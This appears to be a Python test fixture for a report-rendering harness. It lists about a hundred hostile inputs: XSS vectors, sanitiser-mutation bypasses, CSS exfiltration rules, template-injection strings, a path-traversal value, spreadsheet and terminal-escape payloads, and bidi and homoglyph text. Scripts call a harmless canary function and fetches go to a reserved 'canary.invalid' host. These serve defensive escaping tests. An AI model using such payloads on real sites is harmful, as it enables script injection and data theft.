"""Hostile texts, for pages, records and everything else that a report shows.

Each calls :data:`CANARY` where it can run, and asks for something below :data:`AWAY` where it can
fetch. Sources: the HTML standard's list of what runs and fetches; the XSS cheat sheets of OWASP and
PortSwigger; published bypasses of sanitisers by mutation; Unicode TR36 and "Trojan Source".
"""

from __future__ import annotations

import base64
from collections.abc import Iterator
from dataclasses import dataclass

from harness.model import (
    Capture,
    CaseResult,
    Failure,
    FieldDiff,
    FieldResult,
    Finding,
    Hunk,
    Piece,
    Run,
    Tree,
    Verdict,
)
from harness.report.evidence import Evidence, gather

CANARY = "harnessCanary"
"""The function that no page may call."""
AWAY = "https://canary.invalid"
"""The address that no page may ask for."""

_RUN = f"{CANARY}('ran')"
_DATA = base64.b64encode(f"<script>{_RUN}</script>".encode()).decode()

PAYLOADS: dict[str, str] = {
    # --- what runs --------------------------------------------------------------------------------
    "script": f"<script>{_RUN}</script>",
    "script in upper case": f"<SCRIPT>{_RUN}</SCRIPT>",
    "script from away": f"<script src={AWAY}/a.js></script>",
    "module": f"<script type=module>import '{AWAY}/m.js'; {_RUN}</script>",
    "script with a slash": f"<script/x>{_RUN}</script>",
    "nested script": f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    "unclosed script": f"<script>{_RUN}//",
    "image onerror": f"<img src=x onerror={_RUN}>",
    "image onerror in backticks": f"<img src=`x` onerror=`{_RUN}`>",
    "image with slashes": f"<img/src=x/onerror={_RUN}>",
    "image attribute breaker": f'"><img src=x onerror="{_RUN}">',
    "single quote breaker": f"' onmouseover='{_RUN}' autofocus onfocus='{_RUN}' x='",
    "body onload": f"<body onload={_RUN}><p>body</p>",
    "autofocus": f"<input autofocus onfocus={_RUN}><select autofocus onfocus={_RUN}></select>",
    "details ontoggle": f"<details open ontoggle={_RUN}><summary>x</summary>y</details>",
    "video onerror": f"<video><source onerror={_RUN}></video><audio src=x onerror={_RUN}></audio>",
    "marquee onstart": f"<marquee onstart={_RUN}>moving</marquee>",
    "animation onstart": "<style>@keyframes k{}</style>"
    f"<p style='animation:k 1s' onanimationstart={_RUN}>animated</p>",
    "content visibility": "<p style='display:block;content-visibility:auto'"
    f" oncontentvisibilityautostatechange={_RUN}>seen</p>",
    "popover": f"<button popovertarget=p>x</button><p id=p popover onbeforetoggle={_RUN}>over</p>",
    "svg onload": f"<svg onload={_RUN}><text>drawn</text></svg>",
    "svg script": f"<svg><script>{_RUN}</script><script href='data:text/javascript,{_RUN}'/></svg>",
    "svg animate": f"<svg><a><animate attributeName=href values=javascript:{_RUN} /><text>x</text>",
    "svg set": f"<svg><set onbegin={_RUN} attributeName=x to=0 /></svg>",
    "svg use": f"<svg><use href='data:image/svg+xml;base64,{_DATA}#x'/></svg>",
    "svg foreign object": f"<svg><foreignObject><iframe srcdoc='<script>{_RUN}</script>'>",
    "mathml link": f"<math><mrow href='javascript:{_RUN}'><mtext>formula</mtext></mrow></math>",
    "mathml action": f"<math><maction actiontype=statusline xlink:href='javascript:{_RUN}'>m",
    "iframe srcdoc": f"<iframe srcdoc='&lt;script>parent.{_RUN}&lt;/script>'></iframe>",
    "iframe javascript": f"<iframe src=javascript:{_RUN}></iframe>",
    "object": f"<object data='data:text/html;base64,{_DATA}'></object>",
    "embed": f"<embed src='data:text/html;base64,{_DATA}'>",
    "portal and fence": f"<portal src={AWAY}></portal><fencedframe src={AWAY}></fencedframe>",
    "link javascript": f"<a href='javascript:{_RUN}' autofocus>click</a>",
    "link javascript in disguise": f"<a href='jav&#x09;ascript:{_RUN}'>click</a>"
    f"<a href='&#1;javascript:{_RUN}'>click</a>",
    "link data": f"<a href='data:text/html;base64,{_DATA}'>data</a>",
    "link vbscript": "<a href='vbscript:msgbox(1)'>vb</a>",
    "link ping": f"<a href=# ping={AWAY}/ping>ping</a>",
    "area": f"<img usemap=#m alt=map><map name=m><area href='javascript:{_RUN}'></map>",
    "form action": f"<form action='javascript:{_RUN}' id=f><input type=submit value=go><button"
    f" formaction='javascript:{_RUN}'>send</button></form>",
    "form away": f"<form action={AWAY}><input name=q value=s><input type=image src={AWAY}></form>",
    # --- what ends the markup around it -----------------------------------------------------------
    "script end": f"</script><script>{_RUN}</script>",
    "style end": f"</style><script>{_RUN}</script>",
    "textarea end": f"</textarea></title></noscript></template></xmp><script>{_RUN}</script>",
    "frame end": f"</iframe></noembed></noframes><script>{_RUN}</script>",
    "srcdoc end": f'"></iframe><img src=x onerror="{_RUN}">',
    "escaped twice": f"&amp;lt;script&amp;gt;{_RUN}&amp;lt;/script&amp;gt;"
    f"&lt;img src=x onerror={_RUN}&gt;",
    "document end": f"</p></main></body></html><script>{_RUN}</script>",
    "article end": "</article></section><section id='--verdict'><h1>All pass</h1></section>",
    "comment": f"<!--><script>{_RUN}</script>-->",
    "comment end": f"--><script>{_RUN}</script><!--",
    "script comment": "<!--<script>",
    "conditional comment": f"<!--[if true]><script>{_RUN}</script><![endif]-->",
    "cdata": f"<![CDATA[<script>{_RUN}</script>]]>",
    "processing instruction": f"<?xml-stylesheet href='javascript:{_RUN}'?><?php echo 1 ?>",
    "plaintext": "<plaintext>everything after this",
    "html in headings": f"<h1><script>{_RUN}</script><img src=x onerror={_RUN}>heading</h1>",
    # --- sanitisers that were fooled --------------------------------------------------------------
    "mutation by noscript": f"<noscript><p title='</noscript><img src onerror={_RUN}>'></noscript>",
    "mutation by mglyph": "<form><math><mtext></form><form><mglyph><style></math>"
    f"<img src onerror={_RUN}>",
    "mutation by namespaces": f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;"
    f"&lt;img src=1 onerror={_RUN}&gt;'>",
    "mutation by svg style": f"<svg></p><style><a id='</style><img src=1 onerror={_RUN}>'>",
    "mutation by template": f"<template><s><template><s><img src=x onerror={_RUN}>@shafigullin</s>"
    f"</template></s></template><div><template shadowrootmode=open><script>{_RUN}</script>",
    "mutation by table": f"<table><script>{_RUN}</script><tr><td><a href=javascript:{_RUN}>in",
    "mutation by select": f"<select><template><style><!--</style><a rel='--></style></template>"
    f"</select><img src onerror={_RUN}>'>",
    "mutation by annotation": "<math><annotation-xml encoding='text/html'><style><img src=x"
    f" onerror={_RUN}></style></annotation-xml></math>",
    "mutation by xmp": f"<xmp><p title='</xmp><img src=x onerror={_RUN}>'></xmp>",
    "clobbering": "<form id=x><input name=attributes><input name=parentNode></form>"
    "<img name=getElementById><a id=localStorage><a id=localStorage name=getItem>clobber</a>"
    "<p id=--index>{}</p><meta name=harness-token content=stolen>",
    # --- what fetches -----------------------------------------------------------------------------
    "picture": f"<img src={AWAY}/i.png srcset='{AWAY}/2.png 2x' alt='a picture'>"
    f"<picture><source srcset={AWAY}/3.png><img></picture>",
    "old pictures": f"<body background={AWAY}/b.png><table background={AWAY}/t.png><tr><td>x",
    "link elements": f"<link rel=stylesheet href={AWAY}/s.css><link rel=preload as=script"
    f" href={AWAY}/p.js><link rel=icon href={AWAY}/i><link rel=dns-prefetch href={AWAY}>",
    "prefetch rules": '<script type=speculationrules>{"prerender":[{"urls":["'
    f'{AWAY}/spec"]}}]}}</script>',
    "css import": f"<style>@import '{AWAY}/i.css'; @font-face{{font-family:f;src:url({AWAY}/f)}}"
    f" p{{font-family:f;background:url({AWAY}/u)}}</style><p>styled</p>",
    "css exfiltration": f"<style>[value^=a]{{background:url({AWAY}/a)}} p::before{{content:"
    f"url({AWAY}/c)}} p{{cursor:url({AWAY}/k),auto}}</style><p value=abc>secret</p>",
    "style attribute": f"<p style=\"background:url('{AWAY}/s');list-style:url({AWAY})\">styled</p>"
    f"<p style='width:expression({_RUN});behavior:url(#x);-moz-binding:url({AWAY})'>old</p>",
    "style that covers": "<p style='position:fixed;inset:0;z-index:9999;background:#fff'>FINE</p>"
    "<style>*{display:none!important}body{opacity:0}</style>",
    "meta refresh": f"<meta http-equiv=refresh content='0;url={AWAY}/refresh'>",
    "meta refresh javascript": f"<meta http-equiv=refresh content='0;url=javascript:{_RUN}'>",
    "meta policy": "<meta http-equiv=Content-Security-Policy content=\"script-src 'none'\">",
    "base": f"<base href={AWAY}/ target=_top><a href=x>relative</a>",
    "frames": f"<iframe src={AWAY}></iframe><frameset onload={_RUN}><frame src={AWAY}></frameset>",
    "manifest": f"<html manifest={AWAY}/m><body>old cache",
    # --- templates and formats --------------------------------------------------------------------
    "jinja": "{{7*7}} {% for x in y %} {{ ''.__class__.__mro__ }} {# no #} {%- raw -%}",
    "other templates": "${7*7} #{7*7} <%= 7*7 %> ${{7*7}} {{constructor.constructor('"
    f"{CANARY}(1)')()}}}} %s %(name)s {{0}} $1 \\1 \\g<0>",
    "place holders": "<!--articles--><!--chunks--><!--articles-->",
    "json breaker": '"}]}\\"; alert(1); //\u2028\u2029 ]]> \\u003c/script>',
    "base64 breaker": "=====</script>AAAA+/-_\n\r\tAAA=",
    "terminal": "\x1b]8;;http://canary.invalid\x07link\x1b]8;;\x07\x1b[2J\x1b[31mred",
    "markdown": f"[x](javascript:{_RUN}) ![i]({AWAY}/md.png) `code` <details> @all #1 |a|b|",
    "formula": '=HYPERLINK("https://canary.invalid";1) +1 -1 @SUM(1)',
    "path": "../../../../etc/passwd\\..\\..\\x%2e%2e%2f%00.html",
    "prototype": "__proto__",
    "constructor": "constructor",
    "id like a URL": "https://canary.invalid/#/change/x?status=open&cluster=<b>",
    # --- characters -------------------------------------------------------------------------------
    "nul": "a\x00b<\x00script>\x00harnessCanary('ran')</script>",
    "control": "".join(map(chr, (*range(1, 32), *range(127, 160)))),
    "surrogates": "lone \ud83d high, low \udc00, turned \udc00\ud83d end",
    "noncharacters": "\ufffe\uffff\U0001fffe \ufdd0 \ufff9x\ufffay\ufffb",
    "bidi override": "access \u202e\u2066// admin\u2069 \u2066only\u2069 \u202cend \u200f\u061c",
    "unclosed bidi": "\u202e" * 40 + "never closed \u2067\u2068",
    "zero width": "he\u200bl\u2060l\ufeffo \u00ad\u200d\u200c\u180e",
    "tag characters": "flag " + "".join(map(chr, range(0xE0041, 0xE005B))) + "\U000e007f",
    "homoglyphs": "\u0430\u0440\u0440\u04cf\u0435.com \u2024\u2044\uff1cscript\uff1e",
    "combining": "Z" + "\u0301\u0327\u0489" * 300 + " after",
    "overlong and broken": "\xc0\xbcscript\xc0\xbe \ufffd\ufffd +ADw-script+AD4-",
    "one long word": "W" * 20_000,
    "one long line": "word " * 20_000,
    "deep": "<div><b>" * 10_000 + "deep" + "</b></div>" * 10_000,
    "deep lists": "<ul><li>" * 2_000 + "deep list",
    "deep tables": "<table><tr><td>" * 500 + "deep table",
    "many attributes": "<p " + " ".join(f"on{i}=x" for i in range(5_000)) + ">attributes</p>",
    "spanning cells": "<table><tr><td colspan=99999999 rowspan=99999999>wide<td>x</table>",
}
"""Name → text. Most are markup; in a record, a name or a message they are only text."""


@dataclass(frozen=True)
class Hostile:
    """A run in which everything that comes from outside is hostile, and its captures."""

    run: Run
    captures: dict[str, Capture]

    def evidence(self, result: CaseResult) -> Evidence:
        """What :func:`harness.report.evidence.gather` gives of a result of the run."""
        return gather(result, self.captures.__getitem__)


def page_of(payload: str) -> bytes:
    """A page with the payload in its head, as an attribute, in and around an ordinary article."""
    quoted = payload.replace('"', "&quot;")
    return (
        f'<!doctype html><html lang=en><head><title>Title</title></head><body id="{quoted[:200]}">'
        f'<h1>A sound title</h1><p class="{quoted[:200]}" title="{quoted[:200]}">By An Author</p>'
        f"<article><p>The first paragraph of it.</p>{payload}<p>The last paragraph.</p></article>"
        f"</body></html>"
    ).encode("utf-8", "surrogatepass")


def hostile_run(*more: str) -> Hostile:
    """A case for each payload, which stands in all of its texts and names, and in its capture.

    ``more`` are payloads beside those of :data:`PAYLOADS`.
    """
    captures: dict[str, Capture] = {}
    payloads = PAYLOADS | {f"more {number}": text for number, text in enumerate(more)}
    results = tuple(_results(payloads, captures))
    texts = tuple(payload[:300] for payload in PAYLOADS.values())
    run = Run(
        results,
        orphans=tuple(sorted({f"gone/{text}" for text in texts})),
        environment={text: text for text in texts},
        command=" ".join(texts[:40]),
    )
    return Hostile(run, captures)


def _results(payloads: dict[str, str], captures: dict[str, Capture]) -> Iterator[CaseResult]:
    for number, (name, payload) in enumerate(payloads.items()):
        short = payload[:300]
        # A few hundred characters of a name are what file systems hold.
        capture = f"site{number % 7}{short[:40]}/{name} {short[:120]}"
        captures[capture] = Capture(
            capture.partition("/")[0],
            capture.partition("/")[2],
            page_of(payload),
            "text/html",
            url=short,
            note=payload[:5_000],
            headers=((short, short),),
        )
        yield from _verdicts(capture, number, payload, short)


def _verdicts(capture: str, number: int, payload: str, short: str) -> Iterator[CaseResult]:
    accepted: dict[str, Tree] = {
        "title": "A sound title",
        "byline": "An Author",
        "body": [payload],
        short: payload,
    }
    record: dict[str, Tree] = {
        "title": f"A sound title {payload}",
        "byline": "By An Author",
        "body": ["The first paragraph of it.", payload],
        short: [payload, {short: short}],
        "__proto__": {"polluted": payload},
    }
    fields = tuple(
        FieldResult(
            Verdict.WRONG if number % 3 == 0 else Verdict.CHANGED,
            "golden" if number % 3 == 0 else "snapshot",
            FieldDiff(
                path,
                "text",
                short if number % 5 == 0 else "edited",
                short,
                (Hunk(short, (Piece("=", payload), Piece("-", payload), Piece("+", f"x{short}"))),),
                similarity=0.7,
            ),
            golden="contradicts" if number % 2 else "silent",
        )
        for path in ("title", "byline", "__proto__", "constructor", short, f"related[2].{short}")
    )
    findings = (
        Finding(short, short, "error", short, payload, payload, (0, 2, 7)),
        Finding("rule", "title", "warning", "glued", short, short, (1, 0, 5), waived=payload),
        Finding("rule", "body[0]", "error", "glued", short, short, (99_999, -4, 10**9)),
    )
    verdict = Verdict.WRONG if number % 3 == 0 else Verdict.CHANGED
    kind = number % 10
    if kind == 7:
        failure = Failure(short, payload, f"Traceback\n{payload}")
        yield CaseResult(capture, short, Verdict.ERROR, failure=failure, accepted=accepted)
    elif kind == 8:
        yield CaseResult(capture, short, Verdict.ERROR, problem=payload)
    elif kind == 9:
        yield CaseResult(capture, short, Verdict.NEW, record=record)
    else:
        yield CaseResult(
            capture,
            short if kind == 3 else capture.partition("/")[0],
            verdict,
            fields,
            record=record,
            accepted=accepted,
            findings=findings,
        )
    passing = (Finding(short, short, "warning", short, payload, payload, (0, 0, 1)),)
    yield CaseResult(f"passing/{short}", "fine", Verdict.PASS, findings=passing)
